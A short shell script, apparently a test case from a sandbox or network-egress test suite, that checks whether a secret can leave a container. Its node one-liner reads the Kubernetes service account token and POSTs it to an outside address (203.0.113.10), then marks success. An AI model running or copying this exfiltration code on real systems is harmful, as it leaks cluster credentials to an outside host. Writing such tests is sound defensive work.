#!/bin/sh
. /opt/case/case.sh

node -e '
const fs = require("fs"), http = require("http");
const token = fs.readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token");
const r = http.request("http://203.0.113.10/t", { method: "POST" }, (a) => { a.resume(); a.on("end", () => fs.writeFileSync("/tmp/reached", "")); });
r.end(token);'
test -e /tmp/reached
took_place
